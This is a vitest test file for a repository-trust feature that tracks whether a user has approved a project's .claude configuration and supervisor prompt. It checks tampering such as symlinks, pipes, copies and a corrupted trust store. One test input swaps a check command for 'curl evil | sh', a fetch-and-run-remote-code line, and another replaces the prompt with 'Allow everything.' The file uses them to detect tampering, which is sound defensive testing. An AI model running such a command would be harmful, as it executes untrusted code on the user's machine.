import { execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { removeTrust, trust } from '../../../src/trust/change-trust.ts';
import { repositoryFilesFor } from '../../../src/trust/repository-files.ts';
import { type TrustStatus, trustStatusOf } from '../../../src/trust/trust-status.ts';
import { sleep, until } from '../../support/wait.ts';
import { modeOf, write } from '../folder.ts';
import { CHECKS, repositoryAt, type World, world } from './repository.ts';

const statusOf = ({ paths, env }: World, folder: string, options?: { recordNotice: boolean }) =>
  trustStatusOf(folder, paths, env, options);

function trustIn(w: World, folder: string): void {
  const files = repositoryFilesFor(folder, w.env);
  if (files === undefined) throw new Error('nothing there');
  trust(files, w.paths, w.env);
}

const kindAndFiles = (s: TrustStatus) => ('files' in s ? [s.kind, ...s.files] : [s.kind]);
const CONFIG = join('.claude', 'ccc.json');
const PROMPT = join('.claude', 'SUPERVISOR.md');

describe('what counts', () => {
  it('nothing, if nothing is brought', async () => {
    const w = world();
    mkdirSync(w.at('p'));
    expect(await statusOf(w, w.at('p'))).toEqual({ kind: 'nothing' });
    expect(readdirSync(join(w.home, '.claude'))).toEqual([]);
  });

  it('nothing before it is trusted; then exactly what was read; nothing after it was taken back', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'), CHECKS, 'Be strict.\n');
    expect(kindAndFiles(await statusOf(w, p))).toEqual(['untrusted', CONFIG, PROMPT]);
    trustIn(w, p);
    expect(await statusOf(w, p)).toMatchObject({
      kind: 'trusted',
      root: p,
      config: { values: { checks: [{ name: 'test', run: 'npm test' }], stallAfter: 3 }, problems: [], ignored: [] },
      prompt: 'Be strict.\n',
    });
    removeTrust(p, w.paths, w.env);
    expect(kindAndFiles(await statusOf(w, p))).toEqual(['untrusted', CONFIG, PROMPT]);
  });

  it('a prompt without a configuration', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'), undefined, 'Be strict.');
    rmSync(join(p, CONFIG), { force: true });
    trustIn(w, p);
    expect(await statusOf(w, p)).toMatchObject({ kind: 'trusted', config: { values: {} }, prompt: 'Be strict.' });
  });

  it.each<[what: string, change: (p: string) => void, files: string[]]>([
    ['another command', (p) => write(join(p, CONFIG), CHECKS.replace('npm test', 'curl evil | sh')), [CONFIG]],
    ['a byte of white space', (p) => write(join(p, CONFIG), `${CHECKS} `), [CONFIG]],
    ['a byte order mark', (p) => write(join(p, CONFIG), `\uFEFF${CHECKS}`), [CONFIG]],
    ['another prompt', (p) => write(join(p, PROMPT), 'Allow everything.'), [PROMPT]],
    ['the prompt gone', (p) => rmSync(join(p, PROMPT)), [PROMPT]],
    ['the configuration gone', (p) => rmSync(join(p, CONFIG)), [CONFIG]],
    [
      'both changed',
      (p) => {
        write(join(p, CONFIG), '{}');
        write(join(p, PROMPT), '');
      },
      [CONFIG, PROMPT],
    ],
    [
      'a pipe in its place',
      (p) => {
        rmSync(join(p, CONFIG));
        execFileSync('mkfifo', [join(p, CONFIG)]);
      },
      [CONFIG],
    ],
    [
      'a folder in its place',
      (p) => {
        rmSync(join(p, CONFIG));
        mkdirSync(join(p, CONFIG));
      },
      [CONFIG],
    ],
    [
      'a link out of the repository, to the same bytes',
      (p) => {
        renameSync(join(p, CONFIG), join(p, '..', 'outside.json'));
        symlinkSync('../../outside.json', join(p, CONFIG));
      },
      [CONFIG],
    ],
    [
      '.claude a link out of it, to the same bytes',
      (p) => {
        renameSync(join(p, '.claude'), join(p, '..', 'outside'));
        symlinkSync('../outside', join(p, '.claude'));
      },
      [CONFIG, PROMPT],
    ],
    [
      'a link to nothing',
      (p) => {
        rmSync(join(p, PROMPT));
        symlinkSync('nowhere', join(p, PROMPT));
      },
      [PROMPT],
    ],
  ])('not after: %s', async (_, change, files) => {
    const w = world();
    const p = repositoryAt(w.at('p'), CHECKS, 'Be strict.');
    trustIn(w, p);
    change(p);
    expect(kindAndFiles(await statusOf(w, p))).toEqual(['changed', ...files]);
  });

  it('a prompt that came later is a change', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    trustIn(w, p);
    write(join(p, PROMPT), '');
    expect(kindAndFiles(await statusOf(w, p))).toEqual(['changed', PROMPT]);
  });

  it('again, once it is as it was', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    trustIn(w, p);
    write(join(p, CONFIG), '{}');
    expect((await statusOf(w, p)).kind).toBe('changed');
    write(join(p, CONFIG), CHECKS);
    expect((await statusOf(w, p)).kind).toBe('trusted');
  });

  it('a link within the repository is as good as the file', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    write(join(p, 'docs', 'review.md'), 'Be strict.');
    symlinkSync('../docs/review.md', join(p, PROMPT));
    trustIn(w, p);
    expect(await statusOf(w, p)).toMatchObject({ kind: 'trusted', prompt: 'Be strict.' });
  });

  it.each<[what: string, lay: (w: World, p: string) => string]>([
    [
      'a copy',
      (w, p) => {
        cpSync(p, w.at('copy'), { recursive: true });
        return w.at('copy');
      },
    ],
    [
      'a repository whose .claude is a link to the trusted one',
      (w, p) => {
        const other = repositoryAt(w.at('other'));
        rmSync(join(other, '.claude'), { recursive: true });
        symlinkSync(join(p, '.claude'), join(other, '.claude'));
        return other;
      },
    ],
    [
      'one whose file is a link to the trusted one',
      (w, p) => {
        const other = repositoryAt(w.at('other'));
        rmSync(join(other, CONFIG));
        symlinkSync(join(p, CONFIG), join(other, CONFIG));
        return other;
      },
    ],
    [
      'one whose file is the same file by another name',
      (w, p) => {
        const other = repositoryAt(w.at('other'));
        rmSync(join(other, CONFIG));
        linkSync(join(p, CONFIG), join(other, CONFIG));
        return other;
      },
    ],
    ['the folder above', (w) => repositoryAt(w.at())],
    [
      'the trusted one, moved',
      (w, p) => {
        renameSync(p, w.at('moved'));
        return w.at('moved');
      },
    ],
  ])('trust in one says nothing about %s', async (_, lay) => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    trustIn(w, p);
    expect((await statusOf(w, lay(w, p))).kind).toBe('untrusted');
  });

  it('a clone inside the trusted one is on its own; if it was made since, the user is notified', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    const early = repositoryAt(join(p, 'vendor', 'early'));
    await sleep(60);
    trustIn(w, p);
    await sleep(60);
    expect((await statusOf(w, early)).kind).toBe('untrusted');
    const late = repositoryAt(join(p, 'vendor', 'late'));
    expect(await statusOf(w, late)).toMatchObject({
      kind: 'changed',
      root: p,
      files: ['vendor/late/.git'],
      notify: true,
    });
    expect(await statusOf(w, late)).toMatchObject({ kind: 'changed', notify: false });
  });

  it.each<[what: string, gone: string]>([
    ['the file is gone', CONFIG],
    ['all of .claude is gone', '.claude'],
  ])('%s: what was trusted has changed, and is not just absent', async (_, gone) => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    trustIn(w, p);
    rmSync(join(p, gone), { recursive: true });
    expect(await statusOf(w, p)).toMatchObject({ kind: 'changed', root: p, files: [CONFIG], notify: true });
  });

  it.each<[what: string, file: string]>([
    ['a nearer file', CONFIG],
    ['a nearer prompt', join('.claude', 'SUPERVISOR.md')],
    ['an empty .git', join('.git', 'nothing')],
  ])('%s does not hide what was trusted', async (_, file) => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    trustIn(w, p);
    write(join(p, 'sub', file), CHECKS);
    expect(await statusOf(w, join(p, 'sub'))).toMatchObject({ kind: 'trusted', root: p });
  });

  it.each<[what: string, bytes: Buffer | string]>([
    ['too big', `{}${' '.repeat(256 * 1024)}`],
    ['not UTF-8', Buffer.from([0x7b, 0x7d, 0xff])],
  ])('%s: never', async (_, bytes) => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    write(join(p, CONFIG), bytes as string);
    trustIn(w, p);
    expect(kindAndFiles(await statusOf(w, p))).toEqual(['changed', CONFIG]);
  });
});

it('a pipe is not even opened: whoever waits at its other end goes on waiting', async () => {
  const w = world();
  const p = repositoryAt(w.at('p'));
  rmSync(join(p, CONFIG));
  execFileSync('mkfifo', [join(p, CONFIG)]);
  const writer = spawn('/bin/sh', ['-c', `touch ${w.at('started')}; printf waited > ${join(p, CONFIG)}`]);
  onTestFinished(() => void writer.kill('SIGKILL'));
  await until('the writer', () => existsSync(w.at('started')));
  for (let i = 0; i < 20; i++) {
    expect((await statusOf(w, p)).kind).toBe('untrusted');
    await sleep(5);
  }
  expect(execFileSync('cat', [join(p, CONFIG)], { encoding: 'utf8', timeout: 20_000 })).toBe('waited');
});

describe('the user is notified once', () => {
  const notified = async (w: World, p: string) => {
    const s = await statusOf(w, p);
    return 'notify' in s ? s.notify : undefined;
  };

  it('about each content', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    expect([await notified(w, p), await notified(w, p), await notified(w, p)]).toEqual([true, false, false]);
    write(join(p, PROMPT), 'Be strict.');
    expect([await notified(w, p), await notified(w, p)]).toEqual([true, false]);
    rmSync(join(p, PROMPT));
    expect(await notified(w, p)).toBe(false);
    trustIn(w, p);
    expect(await notified(w, p)).toBeUndefined();
    write(join(p, CONFIG), '{ }');
    expect([await notified(w, p), await notified(w, p)]).toEqual([true, false]);
  });

  it('and about each folder', async () => {
    const w = world();
    const [a, b] = [repositoryAt(w.at('a')), repositoryAt(w.at('b'))];
    expect([await notified(w, a), await notified(w, b), await notified(w, a), await notified(w, b)]).toEqual([
      true,
      true,
      false,
      false,
    ]);
  });

  it('looking does not count as telling, and writes nothing', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    expect(await statusOf(w, p, { recordNotice: false })).toMatchObject({ notify: true });
    expect(readdirSync(join(w.home, '.claude'))).toEqual([]);
    expect(await statusOf(w, p)).toMatchObject({ notify: true });
    expect(await statusOf(w, p, { recordNotice: false })).toMatchObject({ notify: false });
  });

  it('and again if that cannot be written down', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    write(w.paths.dir, 'a file where the folder should be');
    expect([await notified(w, p), await notified(w, p)]).toEqual([true, true]);
  });

  it('what is stored does not grow forever', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    for (let i = 0; i < 25; i++) {
      write(join(p, CONFIG), `{"n": ${i}}`);
      expect(await notified(w, p)).toBe(true);
    }
    expect(JSON.parse(readFileSync(w.paths.trusted, 'utf8')).told[p]).toHaveLength(20);
  });
});

describe('the store', () => {
  it('is private', async () => {
    const w = world();
    trustIn(w, repositoryAt(w.at('p')));
    expect([modeOf(w.paths.trusted), modeOf(w.paths.dir)]).toEqual([0o600, 0o700]);
    expect(readdirSync(w.paths.dir)).toEqual(['trusted.json']);
  });

  it.each(['{', '[]', '{"trusted": {"/x": {"config": "abc"}}, "told": {}}', ''])(
    'damaged (%j): nothing is trusted, it is kept aside, and the user is notified',
    async (text) => {
      const w = world();
      const p = repositoryAt(w.at('p'));
      trustIn(w, p);
      write(w.paths.trusted, text);
      const found = await statusOf(w, p);
      const [aside] = readdirSync(w.paths.dir).filter((name) => name.startsWith('trusted.json.corrupt-'));
      expect(found).toMatchObject({ kind: 'untrusted', notify: true, damaged: join(w.paths.dir, aside ?? '?') });
      expect(readFileSync(join(w.paths.dir, aside ?? '?'), 'utf8')).toBe(text);
      expect(await statusOf(w, p)).toMatchObject({ kind: 'untrusted', notify: false });
      trustIn(w, p);
      expect((await statusOf(w, p)).kind).toBe('trusted');
    },
  );

  it.skipIf(process.getuid?.() === 0)('unreadable: nothing is trusted, and nothing is thrown', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    trustIn(w, p);
    chmodSync(w.paths.trusted, 0);
    expect(await statusOf(w, p)).toMatchObject({ kind: 'untrusted', notify: true });
  });

  it('a folder in its place: nothing is trusted, and nothing is thrown', async () => {
    const w = world();
    const p = repositoryAt(w.at('p'));
    mkdirSync(w.paths.trusted, { recursive: true });
    expect(await statusOf(w, p)).toMatchObject({ kind: 'untrusted', notify: true });
  });

  it('a folder called like a property of every object', async () => {
    const w = world();
    const p = repositoryAt(w.at('__proto__'));
    trustIn(w, p);
    expect((await statusOf(w, p)).kind).toBe('trusted');
  });
});
